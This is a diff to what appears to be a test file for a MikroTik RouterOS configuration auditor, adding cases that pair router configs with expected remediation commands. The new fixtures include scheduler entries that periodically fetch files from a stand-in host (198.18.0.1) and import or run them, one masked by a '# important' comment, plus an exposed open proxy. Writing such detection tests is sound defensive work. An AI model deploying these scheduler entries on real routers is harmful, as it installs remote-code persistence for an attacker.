@@ -32,6 +32,12 @@ KEPT = "add action=dst-nat chain=dstnat dst-port=443 protocol=tcp to-addresses=1
          "/system script\nadd name=b source=" + FETCH, ["/system/scheduler/disable [find name=a]"]),
         ("/system scheduler\nadd interval=1m name=a on-event=c\n"
          "/system script\nadd name=b source=" + FETCH, []),
+        ("/system scheduler\nadd interval=1d name=a on-event=\"/tool fetch url=https://198.18.0.1/a;"
+         " /certificate import file-name=a\"", []),
+        ('/system scheduler\nadd interval=1d name=a on-event="# important\\r\\n/tool fetch'
+         ' url=https://198.18.0.1/ddns"', []),
+        ('/system scheduler\nadd interval=1d name=a on-event="/tool fetch url=http://198.18.0.1/a\\r'
+         '\\n:if (1=1) do={/import a}"', ["/system/scheduler/disable [find name=a]"]),
         ("/system scheduler\nadd disabled=yes interval=1m name=a on-event=" + FETCH, []),
         (SEARCH + REDIRECT + KEPT,
          ["/ip/firewall/mangle/disable [find where chain=prerouting"
@@ -56,6 +62,12 @@ KEPT = "add action=dst-nat chain=dstnat dst-port=443 protocol=tcp to-addresses=1
          "add action=redirect chain=dstnat dst-port=80 in-interface=ether2 protocol=tcp"
          " to-ports=3128\n/ip proxy\nset enabled=yes port=3128",
          ["/ip/firewall/filter/add chain=input action=drop protocol=tcp dst-port=3128"
+          " in-interface=ether1"]),
+        (REACHED + "/ip firewall filter\nadd action=drop chain=input dst-port=8080 in-interface=ether1"
+         " protocol=tcp\n/ip firewall nat\n"
+         "add action=masquerade chain=srcnat out-interface=ether1\n"
+         "/ip proxy\nset enabled=yes port=8080,3128",
+         ["/ip/firewall/filter/add chain=input action=drop protocol=tcp dst-port=8080,3128"
           " in-interface=ether1"]),
         (REACHED + "/ip proxy\nset enabled=yes\n/ip proxy access\nadd action=deny", []),
     ],
